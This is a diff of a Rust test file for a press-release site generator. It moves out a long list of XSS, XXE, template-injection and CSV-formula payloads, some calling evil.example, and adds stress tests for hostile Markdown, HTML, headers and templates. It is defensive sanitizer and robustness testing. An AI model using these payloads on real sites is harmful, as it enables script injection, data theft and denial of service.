@@ -1,13 +1,18 @@
 //! What somebody could put into a release to harm its readers, the press office or the build.
 
+mod payloads;
+
 use std::collections::BTreeSet;
+use std::fs::{self, File};
 use std::process::{Command, Stdio};
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 use html5ever::tendril::TendrilSink;
 use markup5ever_rcdom::{Handle, NodeData, RcDom};
 
-use crate::harness::{Fixture, NOW, PIXEL, Run, SITE, Tree, tree};
+use payloads::PAYLOADS;
+
+use crate::harness::{Fixture, NOW, PIXEL, Run, Tree, toml};
 
 // Pages as a browser builds them.
 
@@ -81,7 +86,9 @@ pub fn live_in_text(body: &str) -> Vec<String> {
     for node in nodes(&page) {
         let attr = |name: &str| node.attrs.iter().find(|(known, _)| known == name).map(|(_, v)| v.as_str());
         match (node.name.as_str(), attr("id")) {
-            ("html" | "head" | "body" | "title", _) if node.within.is_none() && node.attrs.is_empty() => continue,
+            ("html" | "head" | "body" | "title", _) if node.within.is_none() && node.attrs.is_empty() => {
+                continue;
+            }
             ("div", Some("prose")) if node.within.is_none() => continue,
             ("i", Some("after")) if node.within.is_none() => {
                 seen_after = true;
@@ -140,246 +147,6 @@ fn words(list: &str) -> BTreeSet<&str> {
     list.split_whitespace().collect()
 }
 
-// Payloads.
-
-/// Each is put into every field and every text. They come from the classes that sanitisers,
-/// template engines, feed readers and terminals have fallen for.
-const PAYLOADS: &[&str] = &[
-    // Elements that act.
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script/x>alert(1)</script>",
-    "<script\n>alert(1)</script\n>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script>alert(1)//",
-    "</script><script>alert(1)</script>",
-    "<script type=\"module\">import('//evil.example/')</script>",
-    "<script type=\"application/ld+json\">{\"@type\":\"Evil\"}</script>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<style>*{background:url(//evil.example/)}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<base href=//evil.example/>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=data:text/html,<script>alert(1)</script>></object>",
-    "<embed src=//evil.example/x.swf>",
-    "<applet code=X></applet>",
-    "<frameset onload=alert(1)>",
-    "<form action=//evil.example/><input name=password><button>ok</button></form>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<input autofocus onfocus=alert(1)>",
-    "<isindex type=image src=1 onerror=alert(1)>",
-    "<textarea><img src=x onerror=alert(1)></textarea>",
-    "<select><option><style></option></select><img src=x onerror=alert(1)>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<video src=//evil.example/v.mp4 onloadstart=alert(1)></video>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<portal src=//evil.example/></portal>",
-    "<dialog open oncancel=alert(1)>x</dialog>",
-    "<template><script>alert(1)</script></template>",
-    "<slot name=x onslotchange=alert(1)></slot>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<plaintext>",
-    "<listing>&lt;script&gt;alert(1)&lt;/script&gt;</listing>",
-    "<x-evil onclick=alert(1)>x</x-evil>",
-    // Handlers on elements that may stay.
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    "<img/src=x/onerror=alert(1)>",
-    "<img src=\"x\"onerror=\"alert(1)\">",
-    "<img src='x' ONERROR='alert(1)'>",
-    "<img src=`x`onerror=alert(1)>",
-    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
-    "<img src=x:alert(1) onerror=eval(src)>",
-    "<img srcset=\"//evil.example/x 1x\">",
-    "<img src=//evil.example/pixel.gif>",
-    "<img src=https://evil.example/pixel.gif width=1 height=1>",
-    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
-    "<img src=\\\\evil.example\\x>",
-    "<img src=/\\evil.example/x>",
-    "<img lowsrc=javascript:alert(1)>",
-    "<img dynsrc=javascript:alert(1)>",
-    "<image src=x onerror=alert(1)>",
-    "<p onclick=alert(1)>x</p>",
-    "<p onmouseover\n=\nalert(1)>x</p>",
-    "<b onpointerenter=alert(1)>x</b>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<div style=\"position:fixed;inset:0\">x</div>",
-    "<p style=behavior:url(//evil.example/x.htc)>x</p>",
-    "<a href=x onclick=alert(1)>x</a>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
-    "<td background=//evil.example/x.png>",
-    "<body onload=alert(1)>",
-    "<html onclick=alert(1)>",
-    "\" onmouseover=\"alert(1)",
-    "' onmouseover='alert(1)",
-    "\"><img src=x onerror=alert(1)>",
-    "'><img src=x onerror=alert(1)>",
-    "\"><script>alert(1)</script>",
-    "--><script>alert(1)</script>",
-    "x\" autofocus onfocus=alert(1) x=\"",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</h1></header></main></body></html><script>alert(1)</script>",
-    "</div></div></article><h1>Faux titre</h1>",
-    // Addresses.
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href=JaVaScRiPt:alert(1)>x</a>",
-    "<a href=\" javascript:alert(1)\">x</a>",
-    "<a href=\"java\tscript:alert(1)\">x</a>",
-    "<a href=\"java\nscript:alert(1)\">x</a>",
-    "<a href=\"java&#10;script:alert(1)\">x</a>",
-    "<a href=\"&#106;avascript:alert(1)\">x</a>",
-    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
-    "<a href=\"javascript&colon;alert(1)\">x</a>",
-    "<a href=\"javascript&Tab;:alert(1)\">x</a>",
-    "<a href=\"&#1;javascript:alert(1)\">x</a>",
-    "<a href=\"\u{a0}javascript:alert(1)\">x</a>",
-    "<a href=vbscript:msgbox(1)>x</a>",
-    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
-    "<a href=blob:https://evil.example/1>x</a>",
-    "<a href=file:///etc/passwd>x</a>",
-    "<a href=view-source:x>x</a>",
-    "<a xlink:href=javascript:alert(1)>x</a>",
-    "<a ping=//evil.example/ href=https://example.org/>x</a>",
-    "<area shape=rect coords=0,0,9,9 href=javascript:alert(1)>",
-    "<map name=m><area href=//evil.example/></map>",
-    "<q cite=javascript:alert(1)>x</q>",
-    "<blockquote cite=//evil.example/>x</blockquote>",
-    "[x](javascript:alert(1))",
-    "[x](JAVASCRIPT:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](&#x6A;avascript:alert(1))",
-    "[x](java%73cript:alert(1))",
-    "[x](<javascript:alert(1)>)",
-    "[x](\\javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](//evil.example/ \"\\\" onmouseover=alert(1) x=\\\"\")",
-    "[x](https://example.org/\"onmouseover=\"alert(1))",
-    "[x](<https://example.org/\"><img src=x onerror=alert(1)>>)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "[x][y]\n\n[y]: data:text/html,x 'title\" onclick=alert(1)'",
-    "<javascript:alert(1)>",
-    "<https://example.org/\"onclick=alert(1)>",
-    "<mailto:a@example.org?body=<script>alert(1)</script>>",
-    "![x](javascript:alert(1))",
-    "![x](https://evil.example/pixel.gif)",
-    "![\"><img src=x onerror=alert(1)>](https://evil.example/x.gif)",
-    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "![[x](javascript:alert(1))](https://example.org/a.png)",
-    "[![x](javascript:alert(1))](javascript:alert(2))",
-    // Other namespaces, and trees that change when they are read again.
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
-    "<svg><use href=//evil.example/x.svg#a></svg>",
-    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
-    "<math href=javascript:alert(1)>x</math>",
-    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
-    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
-    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
-    "<p id=\"</p><img src=x onerror=alert(1)>\">x",
-    "<table><td><a href=x></td></table></a><script>alert(1)</script>",
-    "<a><table><a href=javascript:alert(1)>x</table>",
-    "<b><p></b><img src=x onerror=alert(1)></p>",
-    "<ul><li><ul></li><script>alert(1)</script></ul>",
-    "<select><iframe><script>alert(1)</script></select>",
-    "<ruby><rtc><style></rtc><img src=x onerror=alert(1)></ruby>",
-    // Comments, declarations and sections.
-    "<!--",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!--!><img src=x onerror=alert(1)>--!>",
-    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
-    "<!-- <script>alert(1)</script>",
-    "<!--<script>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "]]><script>alert(1)</script>",
-    "]]>",
-    "]]]]><![CDATA[>",
-    "<?xml version=\"1.0\"?><x/>",
-    "<?php echo 1 ?><script>alert(1)</script>",
-    "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>&x;",
-    "<!ELEMENT x ANY>",
-    "<%= system('id') %>",
-    "</>",
-    "< script>alert(1)</ script>",
-    "<",
-    "<a",
-    "<a href=\"",
-    "&",
-    "&#",
-    "&#0;&#x110000;&#xD800;&#xFFFF;",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;script&amp;gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&NotAnEntity;&copy&nbsp&zwj;",
-    // Templates and data.
-    "{{ 7*7 }}",
-    "{{ portal | json_encode | safe }}",
-    "{% raw %}{{ 7*7 }}",
-    "{% endraw %}{% include \"base.html\" %}",
-    "{# comment #}{%- if true -%}x{%- endif -%}",
-    "${7*7} #{7*7} <%= 7*7 %>",
-    "\",\"@type\":\"Evil\",\"x\":\"",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "\\\"; alert(1); //",
-    "</script><!--<script>\u{2028}alert(1)\u{2029}",
-    "\u{2028}\u{2029}",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    // Markdown.
-    "```\"><script>alert(1)</script>\nx\n```",
-    "``` js onclick=alert(1) \"class=x\nx\n```",
-    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
-    "`<img src=x onerror=alert(1)>`",
-    "# x {#a\"onclick=alert(1) .b\"c onclick=alert(1)}",
-    "# x { onclick=alert(1) style=position:fixed }",
-    "x\n===\n\n<script>alert(1)</script>",
-    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "x[^1]\n\n[^1]: <script>alert(1)</script>",
-    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
-    "> <script>\n> alert(1)\n> </script>",
-    "1. <img src=x onerror=alert(1)>",
-    "* * *\n<script>\nalert(1)\n</script>",
-    "    <script>alert(1)</script>",
-    "\\<script>alert(1)\\</script>",
-    "***<script>alert(1)</script>***",
-    "~~<script>~~alert(1)~~</script>~~",
-    "<div>\n\n# x\n\n</div>\n\n<h1>y</h1>",
-    // Letters.
-    "＜script＞alert(1)＜/script＞",
-    "\u{feff}<script>alert(1)</script>",
-    "<scr\u{ad}ipt>alert(1)</scr\u{ad}ipt>",
-    "<ſcript>alert(1)</ſcript>",
-    "<\u{200b}script>alert(1)</script>",
-    "بلاغ <script>alert(1)</script> نص",
-    "\u{2067}<img src=x onerror=alert(1)>\u{2069}",
-    "\u{61c}\u{200f}\u{200e}",
-    "\u{fdd0}script\u{fdd2}\u{fdd1}",
-    "\u{fffe}\u{ffff}\u{10ffff}",
-    "\u{e0001}\u{e0041}\u{e007f}",
-    // Terminals and XML.
-    "\u{1b}[31mrouge\u{1b}[0m",
-    "\u{1b}]0;titre\u{7}",
-    "\u{1b}]8;;https://evil.example/\u{1b}\\lien\u{1b}]8;;\u{1b}\\",
-    "\u{9b}31m \u{85} \u{7f}",
-    "\u{8}\u{8}\u{8}\u{c}\u{b}\u{1}",
-    "\r\nX-Header: x",
-    "=cmd|' /C calc'!A0",
-];
-
 /// The numbers of fields and texts that one payload goes into, each in a release of its own, so that
 /// the refusal of one hides none of the others.
 const PLACES: usize = 6;
@@ -425,13 +192,15 @@ fn release(number: usize, place: usize, payload: &str) -> (String, String) {
 fn live_in_page(path: &str, page: &str, known: &BTreeSet<(String, String)>, base: &str) -> Vec<String> {
     let mut live = Vec::new();
     for node in nodes(page) {
-        if !known.contains(&(node.name.clone(), String::new())) && !words(PROSE).contains(node.name.as_str()) {
+        if !known.contains(&(node.name.clone(), String::new())) && !words(PROSE).contains(node.name.as_str())
+        {
             live.push(format!("<{}>", node.name));
         }
         let in_head = matches!(node.name.as_str(), "link" | "meta" | "script");
         for (name, value) in &node.attrs {
             let of_theme = known.contains(&(node.name.clone(), name.clone()));
-            let of_prose = !in_head && words(PROSE).contains(node.name.as_str())
+            let of_prose = !in_head
+                && words(PROSE).contains(node.name.as_str())
                 && words(PROSE_ATTRIBUTES).contains(name.as_str());
             if !of_theme && !of_prose {
                 live.push(format!("<{} {name}={value:?}>", node.name));
@@ -439,7 +208,8 @@ fn live_in_page(path: &str, page: &str, known: &BTreeSet<(String, String)>, base
             live.extend(bad_address(&node.name, name, value));
         }
         if node.name == "link" {
-            let href = node.attrs.iter().find(|(name, _)| name == "href").map_or("", |(_, value)| value.as_str());
+            let href =
+                node.attrs.iter().find(|(name, _)| name == "href").map_or("", |(_, value)| value.as_str());
             if (href.contains(':') || href.starts_with("//")) && !href.starts_with(base) {
                 live.push(format!("<link href={href:?}>"));
             }
@@ -620,7 +390,12 @@ fn hostile_payloads_are_dead_wherever_they_stand() {
     for (path, bytes) in &run.output {
         if path.ends_with(".html") {
             pages += 1;
-            live.extend(live_in_page(path, std::str::from_utf8(bytes).unwrap(), &known, "https://parti.example/"));
+            live.extend(live_in_page(
+                path,
+                std::str::from_utf8(bytes).unwrap(),
+                &known,
+                "https://parti.example/",
+            ));
         } else if path.ends_with(".xml") {
             feeds += 1;
             live.extend(live_in_feed(path, std::str::from_utf8(bytes).unwrap()));
@@ -628,4 +403,313 @@ fn hostile_payloads_are_dead_wherever_they_stand() {
     }
     assert!(pages > written - refused && feeds > 20, "{pages} pages, {feeds} feeds");
     assert!(live.is_empty(), "{} live:\n{}", live.len(), live.join("\n"));
+}
+
+// Texts and templates that could stall or stop a build.
+
+/// How a run that may not stall ended, and what it said.
+#[track_caller]
+fn guarded(fixture: &Fixture, what: &str) -> (i32, String) {
+    // Far more than any of these may take: it only keeps the tests from waiting for ever.
+    const PATIENCE: Duration = Duration::from_secs(20);
+    let said = fixture.path("said");
+    let mut child = Command::new(env!("CARGO_BIN_EXE_tribune"))
+        .args(["build", "--as-of", NOW, "--format", "short"])
+        .current_dir(fixture.dir())
+        .env_clear()
+        .env("RAYON_NUM_THREADS", "2")
+        .stdout(Stdio::null())
+        .stderr(File::create(&said).unwrap())
+        .spawn()
+        .unwrap();
+    let begun = Instant::now();
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        if begun.elapsed() > PATIENCE {
+            child.kill().unwrap();
+            panic!("{what} stalls the build");
+        }
+        std::thread::sleep(Duration::from_millis(5));
+    };
+    let said = fs::read_to_string(said).unwrap();
+    assert!(!said.contains("panicked at") && !said.contains("overflowed"), "{what}: {said}");
+    assert_calm(&said);
+    (status.code().unwrap_or(-1), said)
+}
+
+/// A release with this text ends as a page or as a diagnostic; which of them, and what was said.
+#[track_caller]
+fn ends(what: &str, text: &str) -> (i32, String) {
+    assert!(text.len() <= 1 << 20, "{what} has {} bytes", text.len());
+    let site = "title = \"P\"\nbase_url = \"https://parti.example/\"\nlanguages = [\"fr\"]\n";
+    let fixture = Fixture::with("").file("site.toml", site).file("content/a.md", text);
+    let (code, said) = guarded(&fixture, what);
+    match code {
+        0 => assert!(fixture.path("public/2026/03/12/a/index.html").exists(), "{what}"),
+        1 => assert!(said.contains(": error: "), "{what}: {said}"),
+        code => panic!("{what} ended with {code}: {said}"),
+    }
+    assert!(said.len() < 64 * 1024, "{what} made {} bytes of diagnostics", said.len());
+    (code, said)
+}
+
+/// As much of a repeated piece as a release may hold.
+fn filled(piece: &str) -> String {
+    piece.repeat((1_000_000 / piece.len()).min(100_000))
+}
+
+/// A thing for each number, as many as a release may hold.
+fn numbered(piece: impl Fn(usize) -> String) -> String {
+    let mut text = String::new();
+    for number in 0.. {
+        let one = piece(number);
+        if text.len() + one.len() > 1_000_000 {
+            break;
+        }
+        text.push_str(&one);
+    }
+    text
+}
+
+#[test]
+fn hostile_nesting_ends() {
+    for piece in [
+        ">",
+        "> ",
+        "- ",
+        "1. ",
+        "* a\n ",
+        "[",
+        "![",
+        "[[](",
+        "](",
+        "*a ",
+        "*a_ ",
+        "**x",
+        "_",
+        "__a",
+        "~~a",
+        "`",
+        "` ``",
+        "\\",
+        "<",
+        "<!--",
+        "<![CDATA[",
+        "<?",
+        "<!A",
+        "<a ",
+        "<a b=\"",
+        "</",
+        "&",
+        "&#",
+        "&amp",
+        "[a](<",
+        "[a](b \"",
+        "|",
+        "||\n",
+        "#",
+        "```\n",
+        "\t",
+        "a\n=\n",
+        "\"",
+        "«",
+        "« ",
+        "'",
+        "www.",
+        "https://",
+        "a@",
+        "\u{301}",
+        "\u{64e}",
+        "\u{2067}",
+        "\u{feff}",
+        "\r",
+        "12/",
+    ] {
+        ends(&format!("{piece:?} many times"), &(toml("") + &filled(piece)));
+    }
+}
+
+#[test]
+fn hostile_html_ends() {
+    for piece in [
+        "<div>",
+        "<p>",
+        "<font>",
+        "<font><p>",
+        "<b>",
+        "<a href=/>",
+        "<table>",
+        "<table><td>",
+        "<ul><li>",
+        "<div></x>",
+        "<b></x>",
+        "<select>",
+        "<svg>",
+        "<math><mi>",
+        "<template>",
+        "<p></p>",
+        "<br>",
+        "<i><p></i>",
+        "</p>",
+        "</b></i>",
+        "<nobr>",
+        "<button><p>",
+    ] {
+        ends(&format!("{piece} many times"), &(toml("") + &filled(piece)));
+    }
+    for (what, piece) in [
+        ("fonts that all differ", |n| format!("<font size={n}>")),
+        ("attributes", |n| if n == 0 { "<p".to_owned() } else { format!(" a{n}=b") }),
+        (
+            "open fonts and paragraphs",
+            |n| if n < 120 { format!("<font size={n}>") } else { "<p>x".to_owned() },
+        ),
+        ("misnested fonts", |n| format!("<b id=a{n}><p></b>")),
+        ("ids", |n| format!("<i id=a{n}></i>")),
+    ] as [(&str, fn(usize) -> String); 5]
+    {
+        ends(what, &(toml("") + &numbered(piece)));
+    }
+}
+
+#[test]
+fn hostile_references_end() {
+    for (what, piece) in [
+        ("footnotes", |n| format!("[^{n}]: x\n\n")),
+        ("footnotes that are used", |n| format!("[^{n}]\n\n[^{n}]: x\n\n")),
+        ("footnotes that use each other", |n| format!("[^{n}]: [^{}]\n\n", n + 1)),
+        ("links", |n| format!("[](/{n})")),
+        ("links to files that are not there", |n| format!("[]({n})")),
+        ("links that are not safe", |n| format!("[](a{n}:b)")),
+        ("pictures from elsewhere", |n| format!("![](//{n})")),
+        ("pictures that are not there", |n| format!("![](/{n})\n")),
+        ("links in raw HTML", |n| format!("<a href=\"/{n}\">\n")),
+        ("definitions", |n| format!("[{n}]: /{n}\n")),
+        ("definitions that are used", |n| {
+            if n == 0 { format!("[a]: /{}\n\n", "x".repeat(50_000)) } else { "[a] ".into() }
+        }),
+        ("headings", |n| format!("{} a{n}\n", "#".repeat(1 + n % 6))),
+        ("cells", |n| {
+            if n < 100_000 {
+                "|a".into()
+            } else if n < 100_001 {
+                "\n".into()
+            } else if n < 200_001 {
+                "|-".into()
+            } else {
+                "\n|".into()
+            }
+        }),
+        ("tables", |_| "|a|\n|-|\n|b|\n\n".into()),
+        ("paragraphs", |n| format!("{n}\n\n")),
+        ("one word", |_| "a".into()),
+        ("one line", |n| format!("mot{n} ")),
+        ("one line of Arabic", |_| "سوس-ماسة ".into()),
+        ("quotations", |_| "« l'eau » : \"oui\" ! ".into()),
+    ] as [(&str, fn(usize) -> String); 19]
+    {
+        ends(what, &(toml("") + &numbered(piece)));
+    }
+}
+
+#[test]
+fn hostile_headers_end() {
+    let yaml =
+        |rest: &str| format!("---\ntitle: A\ndate: 2026-03-12\nregion: souss-massa\n{rest}\n---\nTexte.\n");
+    let bare = |rest: &str| format!("Titre : A\nDate : 2026-03-12\nRégion : Souss-Massa\n{rest}\n\nTexte.\n");
+    let large = 60_000;
+    for size in [1_000, large, 900_000] {
+        let many = |piece: &str| piece.repeat(size / piece.len());
+        for (what, text) in [
+            ("flow lists", yaml(&format!("tags: {}", many("[")))),
+            ("flow maps", yaml(&format!("extra: {}", many("{a: ")))),
+            ("nested keys", yaml(&many("? "))),
+            ("nested lists", yaml(&format!("tags:\n{}", many("- ")))),
+            ("anchors", yaml(&format!("a: &a [x]\nb: {}", many("*a ")))),
+            ("keys", yaml(&many("a: b\n"))),
+            ("a folded text", yaml(&format!("summary: >\n{}", many("  a\n")))),
+            ("comments", yaml(&many("# a\n"))),
+            ("colons", yaml(&format!("summary: {}", many("a: ")))),
+            ("brackets", toml(&format!("tags = {}", many("[")))),
+            ("braces", toml(&format!("extra = {}", many("{ a = ")))),
+            ("dotted keys", toml(&format!("{}a = 1", many("a.")))),
+            ("tables", toml(&many("[[a]]\n"))),
+            ("errors", toml(&many("= \n"))),
+            ("quotation marks", toml(&format!("summary = {}", many("\"")))),
+            ("tags", toml(&format!("tags = [{}]", many("\"a\", ")))),
+            ("regions", toml("").replace("\"souss-massa\"", &format!("[{}]", many("\"agadri\", ")))),
+            ("a title", toml("").replace("\"A\"", &format!("\"{}\"", many("a ")))),
+            ("a long date", toml(&format!("updated = \"{}\"", many("1 ")))),
+            ("aliases", toml(&format!("aliases = [{}]", many("\"/a/../b\", ")))),
+            ("corrections", toml(&many("[[corrections]]\ndate = 1\n"))),
+            ("bare lines", bare(&many("Tags : a\n"))),
+            ("a bare line", bare(&format!("Résumé : {}", many("a, ")))),
+            ("decorations", bare(&many("*"))),
+            ("a bare date", format!("date {}", many("12 "))),
+        ] {
+            ends(&format!("{what} in {size} bytes of header"), &text);
+        }
+    }
+    assert_eq!(ends("a header that is too large", &toml(&"# a\n".repeat(20_000))).0, 1);
+}
+
+/// A portal in which one template of the theme is replaced.
+fn with_template(text: &str) -> Fixture {
+    Fixture::release(&toml("")).file("templates/release.html", text)
+}
+
+#[test]
+fn hostile_templates_are_refused() {
+    for (what, text) in [
+        ("including itself", "{% include \"release.html\" %}"),
+        ("extending itself", "{% extends \"release.html\" %}"),
+        ("a component that calls itself", "{% component a() %}{{ <a /> }}{% endcomponent a %}{{ <a /> }}"),
+        ("a loop without end", "{% for a in range(end=1000000000) %}xxxxxxxxxx{% endfor %}"),
+        (
+            "loops in loops",
+            "{% for a in range(end=9999) %}{% for b in range(end=9999) %}{% for c in range(end=9999) %}x{% endfor %}{% endfor %}{% endfor %}",
+        ),
+        ("an unknown variable", "{{ releese.title }}"),
+        ("an unknown field", "{{ release.titel }}"),
+        ("an unknown filter", "{{ release.title | nothing }}"),
+        ("an unknown function", "{{ get_env(name=\"HOME\") }}"),
+        ("an unknown file", "{% include \"/etc/passwd\" %}"),
+        ("a file outside", "{% include \"../../site.toml\" %}"),
+        ("an open block", "{% if release %}"),
+        ("an open variable", "{{ release.title"),
+        ("a division by zero", "{{ 1 / 0 }}"),
+        ("a number that is too large", "{{ 9223372036854775807 * 9223372036854775807 }}"),
+    ] {
+        let fixture = with_template(text);
+        let (code, said) = guarded(&fixture, what);
+        assert_eq!(code, 1, "{what}: {said}");
+        assert!(said.contains("error: "), "{what}: {said}");
+        assert!(!fixture.path("public").exists(), "{what} published something");
+    }
+    for (what, text) in [
+        ("parentheses", format!("{{{{ {}1{} }}}}", "(".repeat(50_000), ")".repeat(50_000))),
+        ("brackets", format!("{{{{ {}1{} }}}}", "[".repeat(50_000), "]".repeat(50_000))),
+        ("minus signs", format!("{{{{ {}1 }}}}", "-".repeat(50_000))),
+        ("not after not", format!("{{{{ {}true }}}}", "not ".repeat(50_000))),
+        ("branches", "{% if true %}".repeat(20_000)),
+        ("filters", format!("{{{{ \"a\"{} }}}}", " | upper".repeat(20_000))),
+        ("sums", format!("{{{{ 1{} }}}}", " + 1".repeat(50_000))),
+    ] {
+        let (code, said) = guarded(&with_template(&text), what);
+        assert!(matches!(code, 0 | 1), "{what} ended with {code}: {said}");
+    }
+}
+
+/// The page of a release may have 10 MiB; what writes more is stopped and named.
+#[test]
+fn hostile_templates_cannot_fill_the_disk() {
+    let line = "x".repeat(1000);
+    let (code, said) = guarded(
+        &with_template(&format!("{{% for a in range(end=100000) %}}{line}{{% endfor %}}")),
+        "a long page",
+    );
+    assert_eq!(code, 1, "{said}");
+    assert!(said.contains("10 MiB") && said.contains("templates/release.html"), "{said}");
 }
